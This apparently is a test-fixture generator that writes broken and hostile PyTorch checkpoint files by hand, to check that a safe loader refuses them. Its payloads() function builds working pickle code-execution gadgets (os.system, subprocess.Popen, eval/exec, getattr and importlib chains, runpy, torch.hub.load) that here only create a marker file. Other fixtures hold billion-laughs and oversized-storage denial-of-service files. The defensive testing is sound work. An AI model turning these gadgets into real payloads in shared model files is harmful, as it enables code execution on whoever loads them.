"""Broken and hostile checkpoint files, written by hand at the pickle-opcode level.

Every hostile payload, if a real unpickler ran it, creates ``marker`` (a file path given by the
test), so a test can prove the payload is live *and* that our reader never ran it.
"""

from __future__ import annotations

import io
import os
import random
import struct
import zipfile
from collections.abc import Callable
from pathlib import Path

PROTO2 = b"\x80\x02"
STOP = b"."


def glob(module: str, name: str) -> bytes:
    return b"c" + module.encode() + b"\n" + name.encode() + b"\n"


def text(s: str) -> bytes:
    b = s.encode()
    return b"X" + struct.pack("<I", len(b)) + b


def integer(n: int) -> bytes:
    return b"J" + struct.pack("<i", n) if -(2**31) <= n < 2**31 else b"\x8a\x08" + struct.pack("<q", n)


def call(func: bytes, *args: bytes) -> bytes:
    """func(*args) via REDUCE."""
    return func + b"(" + b"".join(args) + b"t" + b"R"


def with_payload(data_pkl: bytes, payload: bytes, key: str = "extra") -> bytes:
    """Add ``key: payload`` to the top-level dict of a real data.pkl (just before STOP)."""
    assert data_pkl.endswith(STOP)
    return data_pkl[:-1] + text(key) + payload + b"s" + STOP


def zip_checkpoint(path: Path, data_pkl: bytes, storages: dict[str, bytes] | None = None,
                   folder: str = "archive") -> Path:
    with zipfile.ZipFile(path, "w", zipfile.ZIP_STORED) as zf:
        zf.writestr(f"{folder}/data.pkl", data_pkl)
        zf.writestr(f"{folder}/version", "3\n")
        for key, blob in (storages or {}).items():
            zf.writestr(f"{folder}/data/{key}", blob)
    return path


def real_data_pkl(checkpoint: Path) -> tuple[bytes, dict[str, bytes], str]:
    with zipfile.ZipFile(checkpoint) as zf:
        name = next(n for n in zf.namelist() if n.endswith("/data.pkl"))
        folder = name.split("/")[0]
        storages = {n.split("/data/")[1]: zf.read(n) for n in zf.namelist() if "/data/" in n}
        return zf.read(name), storages, folder


def payloads(marker: Path) -> dict[str, bytes]:
    """Globals that run code under a real unpickler; each would create ``marker``."""
    m = str(marker)
    shell = f"touch {m}"
    py = f"open({m!r}, 'w').close()"
    return {
        "os_system": call(glob("os", "system"), text(shell)),
        "posix_system": call(glob("posix", "system"), text(shell)),
        "subprocess_popen": call(glob("subprocess", "Popen"), b"(" + text("touch") + text(m) + b"l"),
        "builtins_eval": call(glob("builtins", "eval"), text(py)),
        "builtins_exec": call(glob("builtins", "exec"), text(py)),
        "py2_builtin_eval": call(glob("__builtin__", "eval"), text(py)),
        "getattr_chain": call(call(glob("builtins", "getattr"),
                                   call(glob("builtins", "__import__"), text("os")), text("system")),
                              text(shell)),
        "pkgutil_resolve": call(call(glob("pkgutil", "resolve_name"), text("os:system")), text(shell)),
        "importlib_import": call(call(glob("builtins", "getattr"),
                                      call(glob("importlib", "import_module"), text("os")),
                                      text("system")), text(shell)),
        "runpy": call(glob("runpy", "_run_code"), text(py), b"}"),
        "numpy_runstring": call(glob("numpy.testing._private.utils", "runstring"), text(py), b"}"),
        "torch_hub_load": call(glob("torch.hub", "load"), text("evil/repo"), text("model")),
    }


def broken_files(outdir: Path, real: Path) -> dict[str, Path]:
    """Files that are not readable checkpoints, each of a different kind of damage."""
    outdir.mkdir(parents=True, exist_ok=True)
    rng = random.Random(0)
    blob = real.read_bytes()
    made: dict[str, Callable[[Path], object]] = {
        "empty.pt": lambda p: p.write_bytes(b""),
        "random.pt": lambda p: p.write_bytes(rng.randbytes(100_000)),
        "text.pt": lambda p: p.write_text("model: yolov5s\nthis is not a checkpoint\n"),
        "truncated.pt": lambda p: p.write_bytes(blob[: len(blob) // 2]),
        "truncated_head.pt": lambda p: p.write_bytes(blob[:200]),
        "zip_without_pkl.pt": lambda p: _zip(p, {"archive/readme.txt": b"hello"}),
        "plain_pickle.pt": lambda p: p.write_bytes(PROTO2 + text("just a string") + STOP),
        "deep_nesting.pt": lambda p: zip_checkpoint(p, PROTO2 + b"(" * 200_000 + b"l" * 200_000 + STOP),
        "laughs.pt": lambda p: zip_checkpoint(p, _billion_laughs()),
        "laughs_in_model.pt": lambda p: _laughs_in_real(p, real),
        "huge_storage.pt": lambda p: zip_checkpoint(p, _tensor_claiming(10**15), {"0": b"\0" * 16}),
        "negative_storage.pt": lambda p: zip_checkpoint(p, _tensor_claiming(-5), {"0": b"\0" * 16}),
        "missing_storage.pt": lambda p: zip_checkpoint(p, _tensor_claiming(4), {}),
        "huge_bytes_claim.pt": lambda p: zip_checkpoint(p, PROTO2 + b"B" + struct.pack("<I", 2**31) + b"ab"),
        "not_a_model.pt": lambda p: zip_checkpoint(p, PROTO2 + b"}" + text("a") + integer(1) + b"s" + STOP),
    }
    out = {}
    for name, fn in made.items():
        path = outdir / name
        fn(path)
        out[name] = path
    d = outdir / "a_directory.pt"
    d.mkdir(exist_ok=True)
    out["a_directory.pt"] = d
    return out


def _zip(path: Path, entries: dict[str, bytes]) -> None:
    with zipfile.ZipFile(path, "w") as zf:
        for k, v in entries.items():
            zf.writestr(k, v)


def _laughs_list(base: int) -> bytes:
    """L0 = ["lol"]; L(i+1) = [Li] * 10, leaving only L60 on the stack: tiny on disk,
    10**60 leaves if anything expands it as a tree. Memo slots start at ``base``."""

    def put(i: int) -> bytes:
        return b"r" + struct.pack("<I", base + i)

    def get(i: int) -> bytes:
        return b"j" + struct.pack("<I", base + i)

    out = io.BytesIO()
    out.write(b"]" + text("lol") + b"a" + put(0) + b"0")
    for i in range(60):
        out.write(b"(" + get(i) * 10 + b"l" + put(i + 1) + (b"0" if i < 59 else b""))
    return out.getvalue()


def _billion_laughs() -> bytes:
    return PROTO2 + b"}(" + text("model") + b"N" + text("opt") + _laughs_list(0) + b"u" + STOP


def _laughs_in_real(path: Path, real: Path) -> None:
    data, storages, folder = real_data_pkl(real)
    # memo slots far above the real pickle's own
    zip_checkpoint(path, with_payload(data, _laughs_list(900_000), key="opt"), storages, folder)


def _tensor_claiming(numel: int) -> bytes:
    storage = (b"(" + text("storage") + glob("torch", "FloatStorage") + text("0") + text("cpu")
               + integer(numel) + b"t" + b"Q")
    size = b"(" + integer(4) + b"t"
    tensor = call(glob("torch._utils", "_rebuild_tensor_v2"), storage, integer(0), size,
                  b"(" + integer(1) + b"t", b"\x89", call(glob("collections", "OrderedDict")))
    return PROTO2 + b"}" + text("w") + tensor + b"s" + STOP


def hostile_files(outdir: Path, real: Path, marker: Path) -> dict[str, Path]:
    """One standalone and one embedded-in-a-real-checkpoint file per payload."""
    outdir.mkdir(parents=True, exist_ok=True)
    data, storages, folder = real_data_pkl(real)
    out = {}
    for name, payload in payloads(marker).items():
        alone = zip_checkpoint(outdir / f"{name}.pt", PROTO2 + payload + STOP)
        inside = zip_checkpoint(outdir / f"{name}_in_model.pt", with_payload(data, payload), storages, folder)
        out[alone.name] = alone
        out[inside.name] = inside
    return out


if __name__ == "__main__":
    import sys

    base = Path(sys.argv[1])
    real_ckpt = Path(sys.argv[2])
    marker_path = base / "PWNED"
    for p in [*broken_files(base / "broken", real_ckpt).values(),
              *hostile_files(base / "hostile", real_ckpt, marker_path).values()]:
        print(p, os.path.getsize(p) if p.is_file() else "dir")
